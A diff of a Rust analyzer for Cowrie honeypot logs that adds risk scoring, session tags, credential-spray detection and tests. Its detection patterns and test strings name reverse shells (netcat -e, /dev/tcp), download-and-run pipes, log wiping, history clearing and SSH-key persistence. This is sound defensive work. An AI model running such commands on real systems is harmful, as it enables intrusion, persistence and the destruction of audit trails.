@@ -1,31 +1,68 @@
 use anyhow::{Context, Result};
 use chrono::{DateTime, Utc};
-use log::{debug, error, trace};
-use serde_json::{json, Value};
+use log::{debug, error, trace, warn};
+use parking_lot::RwLock;
+use serde_json::Value;
 use std::collections::HashMap;
 use std::path::Path;
+use std::sync::OnceLock;
 use std::fs::File;
-use std::io::{self, BufRead, BufReader};
+use std::io::{BufRead, BufReader};
 use uuid::Uuid;
 use regex::Regex;
 
-use crate::data::{EventType, FileTransfer, FileTransferDirection, LogEntry, Session, Command};
+use crate::data::{EventType, FileTransfer, FileTransferDirection, IStr, LogEntry, Session};
 use crate::config::Config;
+use crate::core::log_analyzer::{merge_event_mapping, FieldMap};
+use crate::core::credential_leaks::{leak_detector, CREDENTIAL_LEAK_TAG};
+use crate::core::persistence::PersistenceDetector;
+use crate::core::threat_feeds;
+
+/// Tag of every session from an IP spraying credentials
+pub const SPRAY_TAG: &str = "spray";
+
+/// `nc`, `ncat` or `netcat` as a word of its own (so not `rsync -e ssh`),
+/// given `-e` or `-c`, alone or among other short options
+const NETCAT_SHELL: &str = r"(^|[\s;|&/(`])(nc|ncat|netcat)(\s[^;|&]*)?\s-[a-z]*[ec]\b";
+
+/// Minimum failed-login sessions from one IP before it is tagged as a spray
+const SPRAY_MIN_SESSIONS: usize = 5;
+/// Minimum distinct usernames across those sessions
+const SPRAY_MIN_USERNAMES: usize = 3;
+
+/// Risk points per TCP forwarding attempt
+const FORWARD_RISK: u32 = 5;
+/// Most risk points forwarding attempts add up to
+const FORWARD_RISK_MAX: u32 = 30;
+
+/// Risk points for a command carrying a credential
+const CREDENTIAL_LEAK_RISK: u32 = 15;
 
 /// Enhanced analyzer for Cowrie honeypot logs with advanced security analyst features
+#[allow(dead_code)]
 pub struct EnhancedLogAnalyzer {
     /// Mapping of Cowrie event types to our EventType enum
     event_type_mapping: HashMap<String, EventType>,
+    /// Where each field is found in the logs
+    fields: FieldMap,
     /// Regex for detecting malicious command patterns
     malicious_cmd_patterns: Vec<Regex>,
     /// Known IoC (Indicators of Compromise) IPs
     known_ioc_ips: Vec<String>,
     /// Configuration reference
     config: Config,
-    /// Threat intelligence data
-    threat_intel: HashMap<String, ThreatIntelData>,
+    /// Threat intelligence data, replaced whole on each load
+    threat_intel: RwLock<HashMap<String, ThreatIntelData>>,
     /// ASN and geographic data cache
     geo_data_cache: HashMap<String, GeoData>,
+    /// Compiled tag rules from configuration
+    tag_rules: Vec<(String, Regex)>,
+    /// Compiled anti-forensics (track covering) patterns
+    anti_forensics_patterns: Vec<Regex>,
+    /// Compiled benign command patterns, anchored to the whole command
+    command_allowlist: Vec<Regex>,
+    /// Built-in persistence-technique patterns
+    persistence: PersistenceDetector,
 }
 
 /// Threat intelligence data for an IP address
@@ -86,13 +123,16 @@ impl EnhancedLogAnalyzer {
         event_type_mapping.insert("cowrie.direct-tcpip.request".to_string(), EventType::TCPForward);
         event_type_mapping.insert("cowrie.direct-tcpip.data".to_string(), EventType::TCPForward);
         
+        // User-supplied mappings take precedence
+        merge_event_mapping(&mut event_type_mapping, &config.honeypot.event_mapping);
+        
         // Set up malicious command pattern detection
         let malicious_cmd_patterns = vec![
             Regex::new(r"wget\s+.+\s+\|\s*sh").unwrap(),          // wget pipe to shell
             Regex::new(r"curl\s+.+\s+\|\s*sh").unwrap(),          // curl pipe to shell
             Regex::new(r"/dev/tcp/\d+\.\d+\.\d+\.\d+/\d+").unwrap(), // bash reverse shell
             Regex::new(r"python\s+-c\s+'(.*socket|.*connect)'").unwrap(), // python reverse shell
-            Regex::new(r"nc\s+(-e|-c)\s+").unwrap(),              // netcat reverse shell
+            Regex::new(NETCAT_SHELL).unwrap(),                    // netcat reverse shell
             Regex::new(r"busybox\s+tftp").unwrap(),               // busybox tftp download
             Regex::new(r"chmod\s+[+]x").unwrap(),                 // make file executable
             Regex::new(r"dd\s+bs=\d+\s+count=\d+\s+if=/dev/zero").unwrap(), // DoS attack
@@ -102,59 +142,77 @@ impl EnhancedLogAnalyzer {
         // Set up known IoC IPs (empty for now, would be populated from threat intel feeds)
         let known_ioc_ips = Vec::new();
         
+        // Compile tag rules, skipping any with invalid patterns
+        let tag_rules = config.rules.tag_rules.iter()
+            .filter_map(|rule| match Regex::new(&rule.pattern) {
+                Ok(re) => Some((rule.tag.clone(), re)),
+                Err(e) => {
+                    error!("Invalid pattern for tag rule '{}': {}", rule.tag, e);
+                    None
+                }
+            })
+            .collect();
+        
+        let anti_forensics_patterns = config.rules.anti_forensics_patterns.iter()
+            .filter_map(|pattern| match Regex::new(pattern) {
+                Ok(re) => Some(re),
+                Err(e) => {
+                    error!("Invalid anti-forensics pattern '{}': {}", pattern, e);
+                    None
+                }
+            })
+            .collect();
+        
+        // Anchored so "ls" can't excuse "ls; wget http://... | sh"
+        let command_allowlist = config.rules.command_allowlist.iter()
+            .filter_map(|pattern| match Regex::new(&format!(r"^\s*(?:{})\s*$", pattern)) {
+                Ok(re) => Some(re),
+                Err(e) => {
+                    error!("Invalid command allowlist pattern '{}': {}", pattern, e);
+                    None
+                }
+            })
+            .collect();
+        
         Self {
             event_type_mapping,
+            fields: FieldMap::from_config(&config.honeypot),
             malicious_cmd_patterns,
             known_ioc_ips,
             config: config.clone(),
-            threat_intel: HashMap::new(),
+            threat_intel: RwLock::new(HashMap::new()),
             geo_data_cache: HashMap::new(),
+            tag_rules,
+            anti_forensics_patterns,
+            command_allowlist,
+            persistence: PersistenceDetector::new(),
         }
     }
     
-    /// Load threat intelligence data from feeds
-    pub fn load_threat_intel(&mut self) -> Result<()> {
+    /// Load threat intelligence data from the downloaded feeds, returning the number of entries
+    ///
+    /// Reads the copies [`threat_feeds`] keeps on disk, without downloading;
+    /// the previous data stays in use until the new set replaces it, so this
+    /// can run on a background thread.
+    pub fn load_threat_intel(&self) -> Result<usize> {
         if !self.config.threat_intel.enabled {
             debug!("Threat intelligence disabled, skipping load");
-            return Ok(());
+            return Ok(0);
         }
         
-        for feed_url in &self.config.threat_intel.feeds {
-            debug!("Loading threat intel from feed: {}", feed_url);
-            // In a real implementation, this would download and parse the feed
-            // For now, just log that we would do it
+        let (threat_intel, errors) = threat_feeds::read_feeds(&self.config.threat_intel);
+        for error in &errors {
+            warn!("Threat intel feed {}", error);
         }
         
-        // Add some example threat intel data for testing
-        self.add_example_threat_intel();
-        
-        debug!("Loaded {} threat intel entries", self.threat_intel.len());
-        Ok(())
-    }
-    
-    /// Add example threat intel data for testing
-    fn add_example_threat_intel(&mut self) {
-        // Add some example threat intel data
-        let examples = vec![
-            ("185.156.73.54", 85, vec!["scanner", "bruteforce", "malware"], "AbuseIPDB"),
-            ("112.85.42.2", 90, vec!["botnet", "c2", "scanner"], "Feodo Tracker"),
-            ("45.227.255.206", 75, vec!["ransomware", "malware"], "Blocklist.de"),
-            ("193.142.146.78", 60, vec!["scanner", "bruteforce"], "AlienVault"),
-        ];
-        
-        for (ip, score, labels, source) in examples {
-            self.threat_intel.insert(ip.to_string(), ThreatIntelData {
-                ip: ip.to_string(),
-                score: score,
-                labels: labels.iter().map(|s| s.to_string()).collect(),
-                last_seen: Some(Utc::now()),
-                first_seen: Some(Utc::now()),
-                source: source.to_string(),
-            });
-        }
+        let entries = threat_intel.len();
+        *self.threat_intel.write() = threat_intel;
+        debug!("Loaded {} threat intel entries", entries);
+        Ok(entries)
     }
     
     /// Parse a log file and extract log entries
+    #[allow(dead_code)]
     pub fn parse_log_file(&self, path: &Path) -> Result<Vec<LogEntry>> {
         debug!("Parsing log file: {}", path.display());
         
@@ -183,6 +241,7 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Parse a JSON log entry into our LogEntry struct with enhanced analysis
+    #[allow(dead_code)]
     pub fn parse_log_entry(&self, line: &str) -> Result<LogEntry> {
         trace!("Parsing log entry: {}", line);
         
@@ -191,14 +250,15 @@ impl EnhancedLogAnalyzer {
             .context("Failed to parse log entry as JSON")?;
         
         // Extract basic fields
+        let eventid = self.extract_string_field(&value, "eventid").unwrap_or_default();
         let event_type = self.extract_event_type(&value)?;
         let timestamp = self.extract_timestamp(&value)?;
         let session = self.extract_string_field(&value, "session");
-        let src_ip = self.extract_string_field(&value, "src_ip");
+        let src_ip = self.extract_string_field(&value, "src_ip").map(IStr::from);
         let src_port = self.extract_number_field(&value, "src_port").map(|n| n as u16);
-        let dst_ip = self.extract_string_field(&value, "dst_ip");
+        let dst_ip = self.extract_string_field(&value, "dst_ip").map(IStr::from);
         let dst_port = self.extract_number_field(&value, "dst_port").map(|n| n as u16);
-        let username = self.extract_string_field(&value, "username");
+        let username = self.extract_string_field(&value, "username").map(IStr::from);
         let password = self.extract_string_field(&value, "password");
         let command = self.extract_string_field(&value, "input");
         
@@ -216,6 +276,7 @@ impl EnhancedLogAnalyzer {
             id,
             timestamp,
             event_type,
+            eventid,
             session,
             src_ip,
             src_port,
@@ -233,9 +294,11 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Extract the event type from a log entry
+    #[allow(dead_code)]
     fn extract_event_type(&self, value: &Value) -> Result<EventType> {
-        let event_name = value["eventid"]
-            .as_str()
+        let event_name = self.fields
+            .lookup(value, "eventid")
+            .and_then(Value::as_str)
             .context("Missing or invalid eventid field")?;
         
         let event_type = self.event_type_mapping
@@ -247,9 +310,11 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Extract the timestamp from a log entry
+    #[allow(dead_code)]
     fn extract_timestamp(&self, value: &Value) -> Result<DateTime<Utc>> {
-        let timestamp_str = value["timestamp"]
-            .as_str()
+        let timestamp_str = self.fields
+            .lookup(value, "timestamp")
+            .and_then(Value::as_str)
             .context("Missing or invalid timestamp field")?;
         
         let timestamp = DateTime::parse_from_rfc3339(timestamp_str)
@@ -260,15 +325,18 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Extract a string field from a log entry
+    #[allow(dead_code)]
     fn extract_string_field(&self, value: &Value, field_name: &str) -> Option<String> {
-        value[field_name].as_str().map(String::from)
+        self.fields.lookup(value, field_name)?.as_str().map(String::from)
     }
     
     /// Extract a number field from a log entry
+    #[allow(dead_code)]
     fn extract_number_field(&self, value: &Value, field_name: &str) -> Option<u64> {
-        if let Some(num) = value[field_name].as_u64() {
+        let field = self.fields.lookup(value, field_name)?;
+        if let Some(num) = field.as_u64() {
             Some(num)
-        } else if let Some(num_str) = value[field_name].as_str() {
+        } else if let Some(num_str) = field.as_str() {
             num_str.parse::<u64>().ok()
         } else {
             None
@@ -276,14 +344,17 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Extract additional fields from a log entry
+    #[allow(dead_code)]
     fn extract_additional_fields(&self, value: &Value) -> HashMap<String, Value> {
         let mut fields = HashMap::new();
+        let mapped = self.fields.extracted_keys().collect::<Vec<_>>();
         
         if let Some(obj) = value.as_object() {
             for (key, val) in obj {
                 // Skip fields we've already extracted
                 if !["id", "timestamp", "eventid", "session", "src_ip", "src_port",
-                     "dst_ip", "dst_port", "username", "password", "input"].contains(&key.as_str()) {
+                     "dst_ip", "dst_port", "username", "password", "input"].contains(&key.as_str())
+                    && !mapped.contains(&key.as_str()) {
                     fields.insert(key.clone(), val.clone());
                 }
             }
@@ -293,6 +364,7 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Extract file information from a log entry
+    #[allow(dead_code)]
     fn extract_file_info(&self, value: &Value, event_type: &EventType) -> Option<FileTransfer> {
         match event_type {
             EventType::FileUpload | EventType::FileDownload => {
@@ -317,7 +389,7 @@ impl EnhancedLogAnalyzer {
                 // In a real implementation, we would check if the file is malware
                 // by checking the shasum against known malware databases
                 let is_malware = shasum.as_ref().map_or(false, |s| {
-                    s.starts_with("e") || s.starts_with("a")  // Just for testing
+                    s.starts_with('e') || s.starts_with('a')  // Just for testing
                 });
                 
                 Some(FileTransfer {
@@ -330,6 +402,7 @@ impl EnhancedLogAnalyzer {
                     mime_type: None,
                     is_executable,
                     is_malware,
+                    hash_list: None,
                 })
             }
             _ => None,
@@ -337,8 +410,13 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Check if an IP is in the threat intelligence database
-    pub fn get_threat_intel(&self, ip: &str) -> Option<&ThreatIntelData> {
-        self.threat_intel.get(ip)
+    pub fn get_threat_intel(&self, ip: &str) -> Option<ThreatIntelData> {
+        self.threat_intel.read().get(ip).cloned()
+    }
+    
+    /// Whether any threat intel is loaded
+    pub fn has_threat_intel(&self) -> bool {
+        !self.threat_intel.read().is_empty()
     }
     
     /// Check if a command is potentially malicious
@@ -347,9 +425,76 @@ impl EnhancedLogAnalyzer {
         self.malicious_cmd_patterns.iter().any(|re| re.is_match(cmd))
     }
     
+    /// Check if a command tries to cover tracks (clearing history, wiping logs)
+    pub fn is_anti_forensic(&self, cmd: &str) -> bool {
+        self.anti_forensics_patterns.iter().any(|re| re.is_match(cmd))
+    }
+    
+    /// Check if a command is known-benign noise that shouldn't count towards risk
+    ///
+    /// A command only qualifies if it matches `rules.command_allowlist` in full
+    /// and trips none of the malicious checks, so allowlisting can't hide an attack.
+    pub fn is_command_allowlisted(&self, cmd: &str) -> bool {
+        self.command_allowlist.iter().any(|re| re.is_match(cmd)) && self.command_risk(cmd) == 0
+    }
+    
+    /// Risk points a single command adds on its own
+    fn command_risk(&self, cmd: &str) -> u32 {
+        let cmd_lower = cmd.to_lowercase();
+        let mut score = 0;
+        
+        // Check directly for malicious commands
+        if self.is_command_malicious(cmd) {
+            score += 20;
+        }
+        
+        // Check for downloading tools
+        if cmd_lower.contains("wget") || cmd_lower.contains("curl") || cmd_lower.contains("tftp") {
+            score += 10;
+        }
+        
+        // Check for common malware paths
+        if cmd_lower.contains("/tmp") || cmd_lower.contains("/var/tmp") || cmd_lower.contains("/dev/shm") {
+            score += 5;
+        }
+        
+        // Check for chmod
+        if cmd_lower.contains("chmod") && (cmd_lower.contains("+x") || cmd_lower.contains("777")) {
+            score += 15;
+        }
+        
+        // Check for known malicious commands
+        if cmd_lower.contains("busybox") || cmd_lower.contains("xmrig") || 
+           cmd_lower.contains("mirai") || cmd_lower.contains("ddos") {
+            score += 25;
+        }
+        
+        // Check for reverse shell attempts
+        if (cmd_lower.contains("bash") && cmd_lower.contains("dev/tcp")) ||
+           is_netcat_shell(&cmd_lower) {
+            score += 30;
+        }
+        
+        // Check for attempts to cover tracks
+        if self.is_anti_forensic(cmd) {
+            score += 25;
+        }
+        
+        // Check for persistence: keys, cron jobs, services, accounts
+        score += self.persistence.detect(cmd).iter().map(|technique| technique.risk).sum::<u32>();
+        
+        // Credentials brought along for the next hop
+        if leak_detector().has_credential(cmd) {
+            score += CREDENTIAL_LEAK_RISK;
+        }
+        
+        score
+    }
+    
     /// Analyze a session for potential malicious activity with enhanced detection
     pub fn analyze_session_risk(&self, session: &Session) -> u8 {
-        let mut score = 0;
+        // Accumulate in u32 so sessions with many commands can't overflow
+        let mut score: u32 = 0;
         
         // Check for successful login
         if let Some(user) = &session.user {
@@ -359,9 +504,9 @@ impl EnhancedLogAnalyzer {
         }
         
         // Check if IP is in threat intel
-        if let Some(threat_data) = session.src_ip.as_ref().and_then(|ip| self.get_threat_intel(ip)) {
+        if let Some(threat_data) = self.get_threat_intel(&session.src_ip) {
             // Add a portion of the threat intel score
-            score += threat_data.score / 5;
+            score += threat_data.score as u32 / 5;
             
             // Add points for certain threat categories
             if threat_data.labels.iter().any(|l| l == "malware" || l == "c2" || l == "botnet") {
@@ -369,53 +514,25 @@ impl EnhancedLogAnalyzer {
             }
         }
         
-        // Check for commands
-        if !session.commands.is_empty() {
+        // Check for commands, ignoring allowlisted noise for the interaction heuristics
+        let scored_commands = session.commands.iter()
+            .filter(|cmd| !self.is_command_allowlisted(&cmd.command))
+            .count();
+        
+        if scored_commands > 0 {
             score += 5;
             
             // Score for number of commands (more commands = more interaction = higher risk)
-            if session.commands.len() > 20 {
+            if scored_commands > 20 {
                 score += 10;
-            } else if session.commands.len() > 10 {
+            } else if scored_commands > 10 {
                 score += 5;
             }
-            
-            // Check for malicious commands
-            for cmd in &session.commands {
-                let cmd_lower = cmd.command.to_lowercase();
-                
-                // Check directly for malicious commands
-                if self.is_command_malicious(&cmd.command) {
-                    score += 20;
-                }
-                
-                // Check for downloading tools
-                if cmd_lower.contains("wget") || cmd_lower.contains("curl") || cmd_lower.contains("tftp") {
-                    score += 10;
-                }
-                
-                // Check for common malware paths
-                if cmd_lower.contains("/tmp") || cmd_lower.contains("/var/tmp") || cmd_lower.contains("/dev/shm") {
-                    score += 5;
-                }
-                
-                // Check for chmod
-                if cmd_lower.contains("chmod") && (cmd_lower.contains("+x") || cmd_lower.contains("777")) {
-                    score += 15;
-                }
-                
-                // Check for known malicious commands
-                if cmd_lower.contains("busybox") || cmd_lower.contains("xmrig") || 
-                   cmd_lower.contains("mirai") || cmd_lower.contains("ddos") {
-                    score += 25;
-                }
-                
-                // Check for reverse shell attempts
-                if (cmd_lower.contains("bash") && cmd_lower.contains("dev/tcp")) ||
-                   (cmd_lower.contains("nc") && cmd_lower.contains("-e")) {
-                    score += 30;
-                }
-            }
+        }
+        
+        // Check for malicious commands; allowlisted ones score nothing here by definition
+        for cmd in &session.commands {
+            score += self.command_risk(&cmd.command);
         }
         
         // Check for file uploads
@@ -434,23 +551,27 @@ impl EnhancedLogAnalyzer {
             }
         }
         
+        // Tunneling through the honeypot (spam relays, proxies); more attempts, more abuse
+        if !session.forwards.is_empty() {
+            score += (session.forwards.len() as u32 * FORWARD_RISK).min(FORWARD_RISK_MAX);
+        }
+        
         // Cap score at 100
-        score.min(100)
+        score.min(100) as u8
     }
     
     /// Group sessions by source IP to identify potential campaigns
-    pub fn identify_campaigns(&self, sessions: &[Session]) -> Vec<(String, Vec<&Session>)> {
+    #[allow(dead_code)]
+    pub fn identify_campaigns<'a>(&self, sessions: &'a [Session]) -> Vec<(String, Vec<&'a Session>)> {
         // Group sessions by source IP
         let mut ip_sessions: HashMap<String, Vec<&Session>> = HashMap::new();
         
         for session in sessions {
-            if let Some(ip) = &session.src_ip {
-                ip_sessions.entry(ip.clone()).or_insert_with(Vec::new).push(session);
-            }
+            ip_sessions.entry(session.src_ip.to_string()).or_default().push(session);
         }
         
         // Filter to only IPs with multiple sessions
-        let campaigns: Vec<(String, Vec<&Session>)> = ip_sessions
+        let campaigns: Vec<(String, Vec<&'a Session>)> = ip_sessions
             .into_iter()
             .filter(|(_, sessions)| sessions.len() > 1)
             .collect();
@@ -459,6 +580,7 @@ impl EnhancedLogAnalyzer {
     }
     
     /// Correlate sessions based on command patterns
+    #[allow(dead_code)]
     pub fn correlate_command_patterns(&self, sessions: &[Session]) -> HashMap<String, Vec<String>> {
         let mut pattern_to_sessions: HashMap<String, Vec<String>> = HashMap::new();
         
@@ -471,7 +593,7 @@ impl EnhancedLogAnalyzer {
                 
                 pattern_to_sessions
                     .entry(cmd_pattern)
-                    .or_insert_with(Vec::new)
+                    .or_default()
                     .push(session.id.clone());
             }
         }
@@ -505,4 +627,224 @@ impl EnhancedLogAnalyzer {
         
         None
     }
-}
\ No newline at end of file
+    
+    /// Compute descriptive tags for a session
+    ///
+    /// `same_ip_sessions` are the other sessions from the same source IP and are
+    /// used for cross-session detectors such as credential spraying.
+    pub fn tag_session(&self, session: &Session, same_ip_sessions: &[&Session]) -> Vec<String> {
+        let mut tags = Vec::new();
+        
+        // Malware family detection
+        if let Some(family) = self.detect_malware_family(session) {
+            push_tag(&mut tags, &family_tag(&family));
+        }
+        
+        // Command pattern detection
+        for cmd in &session.commands {
+            let cmd_lower = cmd.command.to_lowercase();
+            
+            if cmd_lower.contains("/dev/tcp") ||
+               is_netcat_shell(&cmd_lower) ||
+               (cmd_lower.contains("python") && cmd_lower.contains("socket")) {
+                push_tag(&mut tags, "reverse-shell");
+            }
+            
+            if cmd_lower.contains("wget") || cmd_lower.contains("curl") || cmd_lower.contains("tftp") {
+                push_tag(&mut tags, "downloader");
+            }
+            
+            if cmd_lower.contains("/etc/shadow") || cmd_lower.contains("/etc/passwd") ||
+               cmd_lower.contains(".ssh/") || cmd_lower.contains(".bash_history") {
+                push_tag(&mut tags, "credential-harvest");
+            }
+            
+            if self.is_command_malicious(&cmd.command) {
+                push_tag(&mut tags, "malicious-command");
+            }
+            
+            if self.is_anti_forensic(&cmd.command) {
+                push_tag(&mut tags, "anti-forensics");
+            }
+            
+            for technique in self.persistence.detect(&cmd.command) {
+                push_tag(&mut tags, technique.tag);
+            }
+            
+            if leak_detector().has_credential(&cmd.command) {
+                push_tag(&mut tags, CREDENTIAL_LEAK_TAG);
+            }
+            
+            // Configured tag rules
+            for (tag, re) in &self.tag_rules {
+                if re.is_match(&cmd.command) {
+                    push_tag(&mut tags, tag);
+                }
+            }
+        }
+        
+        // Connected and left without ever trying to log in
+        if session.end_time.is_some() && session.user.is_none() && session.commands.is_empty() {
+            push_tag(&mut tags, "scanner");
+        }
+        
+        if self.is_credential_spray(session, same_ip_sessions) {
+            push_tag(&mut tags, SPRAY_TAG);
+        }
+        
+        tags
+    }
+    
+    /// Detect many failed logins with varying usernames from the session's source IP
+    pub fn is_credential_spray(&self, session: &Session, same_ip_sessions: &[&Session]) -> bool {
+        let failed = std::iter::once(session)
+            .chain(same_ip_sessions.iter().copied().filter(|s| s.id != session.id))
+            .filter_map(|s| s.user.as_ref())
+            .filter(|user| !user.login_success)
+            .collect::<Vec<_>>();
+        
+        if failed.len() < SPRAY_MIN_SESSIONS {
+            return false;
+        }
+        
+        let usernames = failed.iter()
+            .map(|user| user.username.as_str())
+            .collect::<std::collections::HashSet<_>>();
+        
+        usernames.len() >= SPRAY_MIN_USERNAMES
+    }
+}
+
+/// Whether `command` runs netcat with a program attached, as reverse shells do
+fn is_netcat_shell(command: &str) -> bool {
+    static PATTERN: OnceLock<Regex> = OnceLock::new();
+    PATTERN.get_or_init(|| Regex::new(NETCAT_SHELL).unwrap()).is_match(command)
+}
+
+/// Add a tag if it isn't already present
+fn push_tag(tags: &mut Vec<String>, tag: &str) {
+    if !tags.iter().any(|t| t == tag) {
+        tags.push(tag.to_string());
+    }
+}
+
+/// Convert a malware family name (e.g. "Mirai-like") into a tag (e.g. "mirai")
+fn family_tag(family: &str) -> String {
+    family.to_lowercase()
+        .trim_end_matches("-like")
+        .replace(' ', "-")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data::testing::{at, session};
+    use crate::data::{Command, TcpForward};
+
+    /// A session that ran `commands`
+    fn ran(commands: &[&str]) -> Session {
+        let mut session = session("abc", "198.51.100.4", at(0));
+        session.commands = commands.iter().enumerate()
+            .map(|(i, command)| Command { command: command.to_string(), timestamp: at(i as i64), success: true, output: None })
+            .collect();
+        session
+    }
+
+    #[test]
+    fn netcat_with_a_program_is_a_shell() {
+        for command in ["nc -e /bin/sh 1.2.3.4 4444", "/bin/nc 1.2.3.4 4444 -e sh", "ncat -lvc bash", "cd /tmp;netcat -c sh x 1"] {
+            assert!(is_netcat_shell(command), "{}", command);
+        }
+    }
+
+    #[test]
+    fn nc_inside_another_word_is_not_netcat() {
+        for command in ["rsync -e ssh a b:c", "sync -e", "nc 1.2.3.4 80", "func -e x"] {
+            assert!(!is_netcat_shell(command), "{}", command);
+        }
+    }
+
+    #[test]
+    fn common_ways_of_covering_tracks_are_anti_forensic() {
+        let analyzer = EnhancedLogAnalyzer::new(&Config::default());
+        for command in [
+            "history -c",
+            "cd /tmp; HISTORY -C; exit",
+            "unset HISTFILE",
+            "export HISTFILE=/dev/null",
+            "HISTSIZE=0",
+            "rm -rf ~/.bash_history",
+            "rm -f /root/.bash_history /home/*/.bash_history",
+            "cat /dev/null > /var/log/wtmp",
+            "echo >/var/log/auth.log",
+            "truncate -s 0 /var/log/syslog",
+            "shred -u /var/log/lastlog",
+            "ln -sf /dev/null ~/.bash_history",
+            "systemctl stop rsyslog",
+            "systemctl mask auditd",
+            "service syslog stop",
+        ] {
+            assert!(analyzer.is_anti_forensic(command), "{}", command);
+        }
+    }
+
+    #[test]
+    fn looking_at_logs_is_not_covering_tracks() {
+        let analyzer = EnhancedLogAnalyzer::new(&Config::default());
+        for command in ["history", "ls /var/log/", "cat /var/log/syslog", "echo $HISTFILE", "rm -rf /tmp/.x", "systemctl status rsyslog"] {
+            assert!(!analyzer.is_anti_forensic(command), "{}", command);
+        }
+    }
+
+    #[test]
+    fn covering_tracks_tags_the_session_and_raises_its_risk() {
+        let analyzer = EnhancedLogAnalyzer::new(&Config::default());
+        let covering = ran(&["uname -a", "unset HISTFILE"]);
+        let plain = ran(&["uname -a", "echo $HISTFILE"]);
+
+        assert!(analyzer.tag_session(&covering, &[]).iter().any(|tag| tag == "anti-forensics"));
+        assert!(!analyzer.tag_session(&plain, &[]).iter().any(|tag| tag == "anti-forensics"));
+        assert!(analyzer.analyze_session_risk(&covering) > analyzer.analyze_session_risk(&plain));
+    }
+
+    #[test]
+    fn persisting_tags_the_technique_and_raises_the_risk() {
+        let analyzer = EnhancedLogAnalyzer::new(&Config::default());
+        let persisting = ran(&["uname -a", "echo 'ssh-rsa AAAA' >>  ~/.ssh/authorized_keys", "crontab -e"]);
+        let plain = ran(&["uname -a", "cat ~/.ssh/authorized_keys", "crontab -l"]);
+
+        let tags = analyzer.tag_session(&persisting, &[]);
+        assert!(tags.iter().any(|tag| tag == "persist-ssh-key"));
+        assert!(tags.iter().any(|tag| tag == "persist-cron"));
+        assert!(!analyzer.tag_session(&plain, &[]).iter().any(|tag| tag.starts_with("persist-")));
+        assert!(analyzer.analyze_session_risk(&persisting) > analyzer.analyze_session_risk(&plain));
+    }
+
+    #[test]
+    fn forwarding_risk_grows_with_attempts_up_to_a_cap() {
+        let analyzer = EnhancedLogAnalyzer::new(&Config::default());
+        let forwarding = |attempts: usize| {
+            let mut session = ran(&[]);
+            session.forwards = (0..attempts)
+                .map(|i| TcpForward { dst_host: "smtp.gmail.com".to_string(), dst_port: 25, timestamp: at(i as i64) })
+                .collect();
+            analyzer.analyze_session_risk(&session) as u32
+        };
+
+        let base = forwarding(0);
+        assert_eq!(forwarding(1), base + FORWARD_RISK);
+        assert_eq!(forwarding(3), base + 3 * FORWARD_RISK);
+        assert_eq!(forwarding(100), base + FORWARD_RISK_MAX);
+    }
+
+    #[test]
+    fn configured_patterns_extend_the_built_in_ones() {
+        let mut config = Config::default();
+        config.rules.anti_forensics_patterns.push(r"\bwipe\s+-f\b".to_string());
+        config.rules.anti_forensics_patterns.push("(unclosed".to_string());
+        let analyzer = EnhancedLogAnalyzer::new(&config);
+
+        assert!(analyzer.is_anti_forensic("wipe -f /var/spool/mail/root"));
+        assert!(analyzer.is_anti_forensic("history -c"));
+    }
+}